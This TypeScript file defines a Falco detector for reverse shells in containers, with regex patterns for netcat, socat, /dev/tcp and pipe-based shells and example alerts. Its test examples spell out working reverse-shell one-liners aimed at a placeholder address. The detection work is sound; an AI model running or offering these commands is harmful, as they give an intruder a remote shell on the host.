import { numberField, textField, type FalcoAlert } from '../../model/falco-alert';
import type { Detector } from '../detector';
import { falcoExample, hostExample } from '../falco-example';
import { factsOf, isTagged, NEEDS_POD } from '../falco-facts';
import { subjectOf } from '../falco-pod';

const DUPLICATES = new Set(['dup', 'dup2', 'dup3']);
const NETWORK = new Set(['ipv4', 'ipv6']);
const STANDARD_STREAMS = 2;

const SHELL = '(?:ba|da|a|z|k|c)?sh';

/** Every repetition is bounded. */
const COMMANDS = [
  {
    what: 'netcat runs a program',
    pattern:
      /(?:^|[\s/;&|])(?:nc|ncat|netcat)\s(?:[^\n;&|]{0,128}\s)?(?:-[a-z]{0,8}[ec]|--(?:sh-)?exec)[\s=]{1,4}\S{0,32}(?:\/|sh\b|cmd)/,
  },
  { what: 'socat runs a program', pattern: /(?:^|[\s/;&|])socat\s[^\n]{0,256}?\b(?:exec|system):/i },
  { what: 'shell on a connection', pattern: new RegExp(`\\b${SHELL}\\s{1,4}-i\\b[^\\n]{0,64}/dev/(?:tcp|udp)/`) },
  { what: 'shell on a connection', pattern: /\/dev\/(?:tcp|udp)\/[^\s/]{1,253}\/\d{1,5}[^\n]{0,32}0\s?[<>]&\s?1/ },
  {
    what: 'shell through a pipe',
    pattern: new RegExp(`\\b${SHELL}\\s{1,4}-i\\b[^\\n|]{0,32}\\|\\s{0,4}(?:nc|ncat|netcat|telnet|openssl)\\s`),
  },
  { what: 'interpreter puts a shell on a connection', pattern: /\bsocket\b[^\n]{0,512}?\b(?:dup2|pty\.spawn)\b/ },
] as const;

const running = (commandLine: string, fields: Readonly<Record<string, unknown>> = {}) =>
  falcoExample(
    { 'proc.cmdline': commandLine, 'proc.name': commandLine.split(' ', 1)[0] ?? '', ...fields },
    { rule: 'Run' },
  );

/**
 * A process in a container has its input or output on a network connection, as a reverse shell has.
 *
 * Sees: the system call that does it, and command lines that are known to do it.
 * Misses: shells that a program carries over an encrypted connection of its own.
 */
export const stdioRedirect: Detector<'falco'> = {
  id: 'KM-F12',
  version: 1,
  title: 'Reverse shell or redirected input and output',
  source: 'falco',
  channel: 'NET',
  weight: 'moderate',
  severity: 'high',
  status: 'test',
  techniques: ['T1059.004', 'T1059'],
  references: ['https://attack.mitre.org/techniques/T1059/004/'],
  falsePositives: [
    'Servers that hand each connection to a program on its standard input, such as inetd and sshd.',
    'People who debug with netcat or socat.',
  ],
  triage: [
    'Find out whom the far end belongs to. It is in the facts of the signal where Falco told it.',
    'Look which processes were started on the connection, and by what the first of them was started.',
  ],
  requires: {
    'evt.type with fd.type, or proc.cmdline': 'without both nothing is seen',
    ...NEEDS_POD,
  },
  examples: {
    matches: {
      'input and output on a connection': falcoExample({
        'evt.type': 'dup2',
        'fd.type': 'ipv4',
        'fd.name': '10.0.1.7:35648->203.0.113.9:4444',
      }),
      'netcat with a shell behind it': running('nc 203.0.113.9 4444 -e /bin/sh'),
      'a shell without any tool': running('bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'),
      'a shell through a pipe': running(
        'sh -c rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.9 4444 > /tmp/f',
      ),
    },
    ignores: {
      'output to a file': falcoExample({ 'evt.type': 'dup2', 'fd.type': 'file', 'fd.name': '/var/log/app.log' }),
      'a copy of a connection beside the standard streams': falcoExample({
        'evt.type': 'dup2',
        'fd.type': 'ipv4',
        'fd.num': 12,
        'fd.name': '10.0.1.7:35648->10.0.2.9:5432',
      }),
      'a probe whether a port is open': running('nc -z -w 2 db 5432'),
      'a shell that waits for a port': running('bash -c until echo > /dev/tcp/127.0.0.1/5432; do sleep 1; done'),
      'a process of the host': hostExample({ 'evt.type': 'dup2', 'fd.type': 'ipv4' }),
    },
  },

  detect(alert) {
    const entity = subjectOf(alert);
    const indicators = redirectsIn(alert);
    if (!entity || indicators.length === 0) return undefined;
    const connection = textField(alert, 'fd.name');
    return {
      entity,
      indicators,
      facts: { ...factsOf(alert), ...(isRedirect(alert) && connection !== undefined ? { connection } : {}) },
    };
  },
};

const redirectsIn = (alert: FalcoAlert): readonly string[] => {
  const commandLine = textField(alert, 'proc.cmdline') ?? '';
  const found = [
    ...(isRedirect(alert) ? ['standard stream on a connection'] : []),
    ...COMMANDS.filter(({ pattern }) => pattern.test(commandLine)).map(({ what }) => what),
  ];
  return found.length === 0 && isTagged(alert, 'KM-F12') ? ['said by the rule'] : [...new Set(found)];
};

/** What a process began with, where Falco tells it. */
const STREAMS = ['proc.stdin.name', 'proc.stdout.name'];
const TUPLE = /^\S{1,64}:\d{1,5}->\S{1,64}:\d{1,5}$/;

const isRedirect = (alert: FalcoAlert): boolean =>
  STREAMS.some((field) => TUPLE.test(textField(alert, field) ?? '')) ||
  (DUPLICATES.has(textField(alert, 'evt.type') ?? '') &&
    NETWORK.has(textField(alert, 'fd.type') ?? '') &&
    (numberField(alert, 'fd.num') ?? 0) <= STANDARD_STREAMS);
